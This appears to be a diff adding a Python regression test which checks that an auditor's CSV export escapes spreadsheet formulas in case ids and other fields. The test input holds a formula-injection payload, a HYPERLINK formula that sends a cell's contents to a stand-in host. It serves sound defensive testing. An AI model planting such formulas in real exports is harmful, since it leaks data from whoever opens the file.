@@ -6,7 +6,9 @@ node's ledger on the backend under test).
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 import json
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -269,3 +271,27 @@ def test_auditor_commands_exit_codes_and_outputs(
     assert {"where": "entry 3", "problem": "changed since the last verification"} in verdict[
         "findings"
     ]
+
+
+def test_audit_log_csv_defuses_spreadsheet_formulas(
+    audited: Audited, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Finding 9: a member's case id becomes a cell of the auditor's CSV.
+    hostile = MatchRequest(
+        Justification('=HYPERLINK("http://x.example/?"&A1)', "+purpose", "-basis", "@inv"),
+        (SHARED,),
+    )
+    audited.federation.local("FR").Match(match_request_to_proto(hostile), timeout=30)
+    capsys.readouterr()
+    config = str(audited.auditor)
+    assert main(["audit", "log", "--config", config, "--agency", "FR", "--csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    (submitted,) = [r for r in rows if r["case_id"].startswith("'=")]
+    assert submitted["case_id"] == "'" + hostile.justification.case_id
+    assert (submitted["purpose"], submitted["legal_basis"], submitted["investigator_id"]) == (
+        "'+purpose",
+        "'-basis",
+        "'@inv",
+    )
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
